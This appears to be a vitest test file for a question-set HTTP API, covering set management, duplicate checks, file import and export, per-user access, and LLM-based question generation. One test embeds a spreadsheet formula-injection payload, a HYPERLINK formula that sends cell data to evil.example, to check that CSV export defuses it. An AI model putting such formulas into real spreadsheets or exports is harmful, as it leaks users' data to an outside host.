import { fileURLToPath } from "node:url";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, it, vi } from "vitest";
import {
  type QuestionGenerationWorker,
  startQuestionGenerationWorker,
} from "../src/evals/generation/index.js";
import { HEURISTIC_WARNING, parseQuestionFile } from "../src/evals/questions/index.js";
import type { CodedMessage } from "../src/text/index.js";
import { type Jobs, startJobs } from "../src/jobs/index.js";
import {
  costOfUsage,
  createLlmClient,
  DEFAULT_PRICES,
  type LlmClient,
  parseLlmConfig,
  ProviderLimiters,
  resolveModelConfig,
} from "../src/llm/index.js";
import { createBuiltinBot } from "../src/rag/index.js";
import { createApp } from "../src/server/index.js";
import { createApiToken, findOrCreateUser, queryRows } from "../src/store/index.js";
import { sql } from "drizzle-orm";
import { isChat, promptText, type ScriptedLlm, startScriptedLlm } from "./support/scripted-llm.js";
import { describeEachStore } from "./support/stores.js";

const corpusDir = fileURLToPath(new URL("../examples/corpus/", import.meta.url));

const QUESTIONS = [
  { question_type: "FACTUAL", question_text: "When did Line 1 open?", ground_truth: "In 2009." },
  {
    question_type: "INFERENTIAL",
    question_text: "Why was the 2016 flood so damaging?",
    ground_truth: "Heavy rain, high river.",
    reference_context: "In 2016 heavy rain met a high river.",
  },
  {
    question_type: "USER_DEFINED",
    question_text: "Which festival is in spring?",
    ground_truth: "",
  },
];

/** `GET /question-sets/generations/{id}`, the fields these tests read. */
interface Generation {
  status: string;
  progress: number;
  heuristic?: boolean;
  warnings: CodedMessage[];
  usage: {
    calls: number;
    prompt_tokens: number;
    completion_tokens: number;
    latency_ms: number;
  } | null;
  error: string | null;
  error_message: CodedMessage | null;
  questions?: Array<{
    question_text: string;
    reference_context: string;
    question_type: string;
  }>;
}

interface SetBody {
  id: string;
  name: string;
  description: string | null;
  collection_id: string | null;
  question_count: number;
  questions: Array<{
    id: string;
    question_text: string;
    question_type: string;
    ground_truth: string;
  }>;
}

describeEachStore("HTTP API: question sets", (use) => {
  // Requests go through Hono's app.request(), in process: no socket is needed here.
  let app: ReturnType<typeof createApp>;
  let jobs: Jobs;
  let worker: QuestionGenerationWorker;
  let llm: ScriptedLlm;
  let generator: LlmClient;
  /** Users whose generations get the scripted generator LLM; everyone else gets the heuristic. */
  const llmUsers = new Set<string>();

  beforeAll(async () => {
    llm = await startScriptedLlm();
    const llmConfig = parseLlmConfig({ base_url: llm.baseUrl, max_retries: 0 });
    generator = createLlmClient(resolveModelConfig(llmConfig, "generator"), {
      limiters: new ProviderLimiters(),
    });
    jobs = await startJobs(use(), { expireInSeconds: 5, heartbeatSeconds: 1 });
    worker = startQuestionGenerationWorker({
      jobs,
      clientsFor: (workspaceId) => (llmUsers.has(workspaceId) ? { generator } : {}),
    });
    app = createApp({ db: use().db, jobs });
  });
  afterAll(async () => {
    await worker.stop();
    await jobs.stop();
    await llm.close();
  });

  async function userOf(name: string) {
    const { db } = use();
    const user = await findOrCreateUser(db, name);
    return { id: user.id, token: await createApiToken(db, user.id) };
  }
  const call = (token: string, method: string, path: string, body?: unknown) =>
    app.request(`/api/v1${path}`, {
      method,
      headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
  const json = async <T>(response: Response | Promise<Response>) =>
    (await (await response).json()) as T;
  /** Polls a generation until it is COMPLETED or FAILED; no preview is shown before. */
  async function finishedGeneration(token: string, id: string): Promise<Generation> {
    const unfinished: Generation[] = [];
    const finished = await vi.waitFor(
      async () => {
        const generation = await json<Generation>(
          call(token, "GET", `/question-sets/generations/${id}`),
        );
        if (generation.status === "COMPLETED" || generation.status === "FAILED") return generation;
        unfinished.push(generation);
        throw new Error(`generation still ${generation.status}`);
      },
      { timeout: 60_000, interval: 100 },
    );
    for (const generation of unfinished) {
      expect(generation).not.toHaveProperty("questions");
      expect(generation.usage).toBeNull();
    }
    return finished;
  }
  const startGeneration = async (token: string, body: unknown) => {
    const started = await call(token, "POST", "/question-sets/generate", body);
    expect(started.status).toBe(202);
    return ((await started.json()) as { id: string }).id;
  };
  const countRows = async (table: "question_sets" | "questions") =>
    (
      await queryRows<{ n: number }>(use().db, sql.raw(`select count(*)::int as n from ${table}`))
    )[0]?.n;

  it("creates, reads, updates and deletes sets and questions", async () => {
    const { token } = await userOf("alice");
    const created = await call(token, "POST", "/question-sets", {
      name: "basics",
      description: "first try",
      questions: QUESTIONS,
    });
    expect(created.status).toBe(201);
    const set = (await created.json()) as SetBody;
    expect(set.question_count).toBe(3);
    expect(set.questions.map((q) => q.question_text)).toEqual(
      QUESTIONS.map((q) => q.question_text),
    );
    expect(set).not.toHaveProperty("user_id");

    const list = await json<{ items: SetBody[] }>(call(token, "GET", "/question-sets"));
    expect(list.items.map((s) => s.id)).toEqual([set.id]);

    const renamed = await json<SetBody>(
      call(token, "PUT", `/question-sets/${set.id}`, { name: "renamed", description: null }),
    );
    expect([renamed.name, renamed.description]).toEqual(["renamed", null]);

    const appended = await call(token, "POST", `/question-sets/${set.id}/questions`, {
      questions: [{ question_text: "How long is Line 2?", ground_truth: "12 km" }],
    });
    expect(appended.status).toBe(201);
    const { items } = (await appended.json()) as {
      items: Array<{ id: string; question_type: string }>;
    };
    expect(items[0]?.question_type).toBe("USER_DEFINED");

    // A repeat of a question already in the set (differently punctuated): 409, nothing added.
    const repeat = await call(token, "POST", `/question-sets/${set.id}/questions`, {
      questions: [
        { question_text: "A brand new question?" },
        { question_text: "when did line 1 open" },
      ],
    });
    expect(repeat.status).toBe(409);
    const conflict = (await repeat.json()) as {
      error: string;
      duplicates: Array<{ index: number; question_text: string }>;
    };
    expect(conflict.error).toBe("duplicate_questions");
    expect(conflict.duplicates).toEqual([{ index: 1, question_text: "when did line 1 open" }]);

    // A repeat inside the list: 400 naming the index.
    const inside = await call(token, "POST", `/question-sets/${set.id}/questions`, {
      questions: [{ question_text: "Fresh one?" }, { question_text: "fresh one" }],
    });
    expect(inside.status).toBe(400);
    expect((await inside.json()) as unknown).toMatchObject({
      issues: [{ path: "questions.1.question_text", message: "duplicate of questions.0" }],
    });
    let detail = await json<SetBody>(call(token, "GET", `/question-sets/${set.id}`));
    expect(detail.question_count).toBe(4);
    expect(detail.questions).toHaveLength(4);

    const [first, second] = detail.questions;
    const edited = await call(token, "PUT", `/question-sets/questions/${first?.id}`, {
      ground_truth: "Line 1 opened in 2009.",
      question_type: "INFERENTIAL",
    });
    expect(edited.status).toBe(200);
    expect((await edited.json()) as unknown).toMatchObject({
      question_text: QUESTIONS[0]?.question_text,
      ground_truth: "Line 1 opened in 2009.",
      question_type: "INFERENTIAL",
    });
    const clash = await call(token, "PUT", `/question-sets/questions/${first?.id}`, {
      question_text: second?.question_text,
    });
    expect(clash.status).toBe(409);
    expect((await call(token, "PUT", `/question-sets/questions/${first?.id}`, {})).status).toBe(
      400,
    );

    expect((await call(token, "DELETE", `/question-sets/questions/${second?.id}`)).status).toBe(
      204,
    );
    expect((await call(token, "DELETE", `/question-sets/questions/${second?.id}`)).status).toBe(
      404,
    );
    detail = await json<SetBody>(call(token, "GET", `/question-sets/${set.id}`));
    expect(detail.question_count).toBe(3);
    expect(detail.questions.map((q) => q.id)).not.toContain(second?.id);

    expect((await call(token, "DELETE", `/question-sets/${set.id}`)).status).toBe(204);
    expect((await call(token, "GET", `/question-sets/${set.id}`)).status).toBe(404);
    expect((await json<{ items: unknown[] }>(call(token, "GET", "/question-sets"))).items).toEqual(
      [],
    );
  });

  it("refuses a list with repeats, naming each index, and writes nothing", async () => {
    const { token } = await userOf("alice");
    const response = await call(token, "POST", "/question-sets", {
      name: "repeats",
      questions: [
        ...QUESTIONS,
        { question_text: "WHEN did line 1 open" },
        { question_text: "which festival is in spring" },
      ],
    });
    expect(response.status).toBe(400);
    const body = (await response.json()) as { issues: Array<{ path: string; message: string }> };
    expect(body.issues).toEqual([
      { path: "questions.3.question_text", message: "duplicate of questions.0" },
      { path: "questions.4.question_text", message: "duplicate of questions.2" },
    ]);
    const invalid = await call(token, "POST", "/question-sets", {
      name: "",
      questions: [{ question_text: "ok?", question_type: "OPINION" }],
    });
    expect(invalid.status).toBe(400);
    const paths = ((await invalid.json()) as { issues: Array<{ path: string }> }).issues.map(
      (i) => i.path,
    );
    expect(paths).toEqual(expect.arrayContaining(["name", "questions.0.question_type"]));
    expect(await countRows("question_sets")).toBe(0);
    expect(await countRows("questions")).toBe(0);
  });

  it("imports all or nothing, naming every bad row, and exports files that import back", async () => {
    const { token } = await userOf("alice");
    const bad = [
      "question_type,question_text,ground_truth",
      "FACTUAL,When did Line 1 open?,2009",
      "OPINION,Is the metro nice?,yes",
      "FACTUAL,,missing question",
      "FACTUAL,when did line 1 open,2009",
    ].join("\n");
    const rejected = await call(token, "POST", "/question-sets/import", {
      name: "bad import",
      format: "csv",
      content: bad,
    });
    expect(rejected.status).toBe(400);
    const body = (await rejected.json()) as {
      error: string;
      rows: Array<{ row: number; field: string }>;
    };
    expect(body.error).toBe("invalid_import");
    expect(body.rows.map((r) => [r.row, r.field])).toEqual([
      [2, "question_type"],
      [3, "question_text"],
      [4, "question_text"],
    ]);
    expect(await countRows("question_sets")).toBe(0);
    expect(await countRows("questions")).toBe(0);

    const jsonl = QUESTIONS.map((q) => JSON.stringify(q)).join("\n");
    const imported = await call(token, "POST", "/question-sets/import", {
      name: "Lanting: basics (v2)",
      format: "jsonl",
      content: jsonl,
    });
    expect(imported.status).toBe(201);
    const set = (await imported.json()) as SetBody;
    expect(set.question_count).toBe(3);

    const expected = parseQuestionFile(jsonl, "jsonl");
    for (const [format, type] of [
      ["csv", "text/csv"],
      ["json", "application/json"],
      ["jsonl", "application/x-ndjson"],
    ] as const) {
      const file = await call(token, "GET", `/question-sets/${set.id}/export?format=${format}`);
      expect(file.status).toBe(200);
      expect(file.headers.get("content-type")).toContain(type);
      expect(file.headers.get("content-disposition")).toBe(
        `attachment; filename="Lanting-basics-v2.version-1.${format}"`,
      );
      const content = await file.text();
      expect(parseQuestionFile(content, format)).toEqual(expected);
      const again = await call(token, "POST", "/question-sets/import", {
        name: `round trip ${format}`,
        format,
        content,
      });
      expect(again.status).toBe(201);
      const copy = (await again.json()) as SetBody;
      expect(
        copy.questions.map(({ question_text, question_type, ground_truth }) => ({
          question_text,
          question_type,
          ground_truth,
        })),
      ).toEqual(
        set.questions.map(({ question_text, question_type, ground_truth }) => ({
          question_text,
          question_type,
          ground_truth,
        })),
      );
    }
    expect((await call(token, "GET", `/question-sets/${set.id}/export?format=xml`)).status).toBe(
      400,
    );
  });

  it("exports formula-like questions defused for spreadsheets, and imports the file back as they were", async () => {
    const { token } = await userOf("alice");
    const questions = [
      {
        question_type: "FACTUAL",
        question_text: '=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")',
        ground_truth: "-2 degrees",
      },
      { question_type: "INFERENTIAL", question_text: "+1 or -1?", ground_truth: "@noon" },
      { question_type: "USER_DEFINED", question_text: "'=marked already?", ground_truth: "'tis" },
    ];
    const set = await json<SetBody>(
      call(token, "POST", "/question-sets", { name: "formulas", questions }),
    );
    const file = await call(token, "GET", `/question-sets/${set.id}/export?format=csv`);
    expect(file.status).toBe(200);
    const content = await file.text();
    const rows = parse(content, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => [row.question_text, row.ground_truth])).toEqual([
      ['\'=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")', "'-2 degrees"],
      ["'+1 or -1?", "'@noon"],
      ["''=marked already?", "'tis"],
    ]);
    const again = await call(token, "POST", "/question-sets/import", {
      name: "formulas, round trip",
      format: "csv",
      content,
    });
    expect(again.status).toBe(201);
    const copy = (await again.json()) as SetBody;
    expect(
      copy.questions.map(({ question_text, question_type, ground_truth }) => ({
        question_type,
        question_text,
        ground_truth,
      })),
    ).toEqual(questions);
  });

  it("answers another user's (or a malformed) id as not found everywhere", async () => {
    const alice = await userOf("alice");
    const bob = await userOf("bob");
    const set = await json<SetBody>(
      call(alice.token, "POST", "/question-sets", { name: "private", questions: QUESTIONS }),
    );
    const qid = set.questions[0]?.id;
    const attempts: Array<[string, string, unknown?]> = [
      ["GET", `/question-sets/${set.id}`],
      ["GET", `/question-sets/${set.id}/export?format=json`],
      ["PUT", `/question-sets/${set.id}`, { name: "mine now" }],
      ["DELETE", `/question-sets/${set.id}`],
      ["POST", `/question-sets/${set.id}/questions`, { questions: [{ question_text: "x?" }] }],
      ["PUT", `/question-sets/questions/${qid}`, { ground_truth: "changed" }],
      ["DELETE", `/question-sets/questions/${qid}`],
      ["GET", "/question-sets/not-a-uuid"],
      ["DELETE", "/question-sets/questions/not-a-uuid"],
    ];
    for (const [method, path, body] of attempts) {
      const response = await call(bob.token, method, path, body);
      expect(response.status, `${method} ${path}`).toBe(404);
    }
    expect(
      (await json<{ items: unknown[] }>(call(bob.token, "GET", "/question-sets"))).items,
    ).toEqual([]);
    const untouched = await json<SetBody>(call(alice.token, "GET", `/question-sets/${set.id}`));
    expect(untouched.name).toBe("private");
    expect(untouched.question_count).toBe(3);
    expect(untouched.questions[0]?.ground_truth).toBe(QUESTIONS[0]?.ground_truth);
    // A collection that is not the caller's cannot be attached.
    const foreign = await call(bob.token, "POST", "/question-sets", {
      name: "x",
      collection_id: "lanting",
    });
    expect(foreign.status).toBe(404);
  });

  it("generates questions as a job (heuristic, no LLM), previews them, then saves a set", async () => {
    const alice = await userOf("alice");
    const bob = await userOf("bob");
    const bot = createBuiltinBot({ db: use().db, workspaceId: alice.id });
    await bot.ingestPaths([corpusDir], "lanting");
    const collectionId = await bot.resolveCollection("lanting");

    const badPrompt = await call(alice.token, "POST", "/question-sets/generate", {
      collection_id: collectionId,
      n: 3,
      prompt: "Ask about the text.",
    });
    expect(badPrompt.status).toBe(400);
    expect(((await badPrompt.json()) as { issues: Array<{ path: string }> }).issues[0]?.path).toBe(
      "prompt",
    );
    expect(
      (
        await call(alice.token, "POST", "/question-sets/generate", {
          collection_id: collectionId,
          n: 500,
        })
      ).status,
    ).toBe(400);
    expect(
      (
        await call(bob.token, "POST", "/question-sets/generate", {
          collection_id: collectionId,
          n: 3,
        })
      ).status,
    ).toBe(404);

    const started = await call(alice.token, "POST", "/question-sets/generate", {
      collection_id: "lanting",
      n: 4,
    });
    expect(started.status).toBe(202);
    const { id, status } = (await started.json()) as { id: string; status: string };
    expect(status).toBe("PENDING");

    const generation = await finishedGeneration(alice.token, id);
    expect(generation.error).toBeNull();
    expect(generation.status).toBe("COMPLETED");
    expect(generation.progress).toBe(100);
    expect(generation.heuristic).toBe(true);
    // Words for a person come as a code with parameters, and their English words.
    expect(generation.warnings).toContainEqual(HEURISTIC_WARNING);
    expect(HEURISTIC_WARNING).toMatchObject({ code: "generation.heuristic", params: {} });
    // No LLM, so no usage: null, not zeros.
    expect(generation.usage).toBeNull();
    const questions = generation.questions ?? [];
    expect(questions.length).toBeGreaterThan(0);
    expect(questions.length).toBeLessThanOrEqual(4);
    for (const q of questions) {
      expect(["FACTUAL", "INFERENTIAL"]).toContain(q.question_type);
      expect(q.reference_context.length).toBeGreaterThan(0);
    }
    expect((await call(bob.token, "GET", `/question-sets/generations/${id}`)).status).toBe(404);
    // Generating saved nothing; saving is the user's call.
    expect(await countRows("question_sets")).toBe(0);

    const saved = await call(alice.token, "POST", "/question-sets", {
      name: "generated",
      collection_id: collectionId,
      questions,
    });
    expect(saved.status).toBe(201);
    const set = (await saved.json()) as SetBody;
    expect(set.collection_id).toBe(collectionId);
    expect(set.questions.map((q) => q.question_text)).toEqual(
      questions.map((q) => q.question_text),
    );
  });

  it("records a generation's LLM usage: every call the generator LLM got, re-asks included", async () => {
    const carol = await userOf("carol");
    llmUsers.add(carol.id);
    const bot = createBuiltinBot({ db: use().db, workspaceId: carol.id });
    await bot.ingestPaths([corpusDir], "lanting");
    llm.reset();
    // The first reply is unusable, so that chunk is asked again; every reply after has 3 questions.
    llm.on({ times: 1, reply: { content: "Sorry, no JSON today." } });
    let replies = 0;
    llm.on({
      reply: () => {
        replies++;
        const questions = [1, 2, 3].map((i) => ({
          question_type: "FACTUAL",
          question_text: `What does fact ${replies}.${i} say?`,
          ground_truth: `Fact ${replies}.${i}.`,
        }));
        return { json: { questions } };
      },
    });

    const id = await startGeneration(carol.token, { collection_id: "lanting", n: 4 });
    const generation = await finishedGeneration(carol.token, id);
    expect(generation.error).toBeNull();
    expect(generation.status).toBe("COMPLETED");
    expect(generation.heuristic).toBe(false);
    expect(generation.questions).toHaveLength(4);
    const chats = llm.requests.filter(isChat);
    // Two chunks (3 questions each for 4), one of them asked twice.
    expect(chats).toHaveLength(3);
    expect(chats.filter((r) => promptText(r).includes("could not be used"))).toHaveLength(1);
    expect(generation.usage?.calls).toBe(chats.length);
    expect(generation.usage?.prompt_tokens).toBeGreaterThan(0);
    expect(generation.usage?.completion_tokens).toBeGreaterThan(0);
    expect(generation.usage?.latency_ms).toBeGreaterThan(0);
    // The same tokens by model, priced at the default table's price for the generator's model.
    const usage = generation.usage as unknown as {
      prompt_tokens: number;
      completion_tokens: number;
      models: { role: string; model: string; calls: number; cost_usd: number | null }[];
      cost_usd: number;
    };
    expect(usage.models).toEqual([
      expect.objectContaining({ role: "generator", model: "gpt-4o-mini", calls: chats.length }),
    ]);
    const expected = costOfUsage(
      { model: "gpt-4o-mini", cached_tokens: 0, ...usage },
      DEFAULT_PRICES,
    ) as number;
    expect(expected).toBeGreaterThan(0);
    expect(usage.models[0]?.cost_usd).toBeCloseTo(expected, 12);
    expect(usage.cost_usd).toBeCloseTo(expected, 12);
    // The OpenAPI document shows the same shape.
    const doc = await json<{
      components: { schemas: Record<string, { properties?: Record<string, unknown> }> };
    }>(app.request("/api/v1/openapi.json"));
    expect(Object.keys(doc.components.schemas.QuestionGeneration?.properties ?? {})).toEqual(
      expect.arrayContaining(["status", "questions", "usage"]),
    );

    // A generation that fails stores no usage (generateQuestions does not return its calls then).
    llm.reset();
    llm.on({ reply: { status: 500, message: "the model is down" } });
    const failed = await finishedGeneration(
      carol.token,
      await startGeneration(carol.token, { collection_id: "lanting", n: 2 }),
    );
    expect(failed.status).toBe("FAILED");
    expect(failed.error).toMatch(/500|down/);
    expect(failed.usage).toBeNull();

    // Every reply unusable: there is no question to preview or add, so the generation failed,
    // its reasons counted by kind once instead of one warning per chunk.
    llm.reset();
    llm.on({ reply: { content: "Sorry, no JSON today." } });
    const empty = await finishedGeneration(
      carol.token,
      await startGeneration(carol.token, { collection_id: "lanting", n: 2 }),
    );
    expect(empty.status).toBe("FAILED");
    expect(empty.error).toMatch(
      /^No usable question was generated: \d+ × the model's reply was unusable .*\(e\.g\. /,
    );
    expect(empty.error?.match(/×/g)).toHaveLength(1);
    // The same reason as a code the web app words in the reader's language.
    expect(empty.error_message).toMatchObject({
      code: "generation.no_usable_question",
      params: { failures: [{ kind: "unusable_reply", count: expect.any(Number) }] },
      message: empty.error,
    });
    expect(empty.questions ?? null).toBeNull();
  });
});
